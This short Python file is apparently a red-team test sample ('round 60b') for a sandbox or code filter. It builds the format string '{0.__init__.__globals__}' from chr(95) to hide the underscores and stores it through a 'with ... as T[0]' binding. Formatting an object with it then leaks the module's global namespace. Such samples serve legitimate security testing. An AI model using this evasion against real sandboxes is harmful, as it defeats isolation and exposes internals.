# family: red team, round 60b (with ... as T[0] stores runtime string in table)
U = chr(len("x" * 95)) * 2
EVIL = "{0." + U + "init" + U + "." + U + "globals" + U + "}"


class K:
    def __init__(self):
        self.v = 1


import contextlib
T = ["{0}"]
with contextlib.nullcontext(EVIL) as T[0]:
    pass
print(T[0].format(K()))
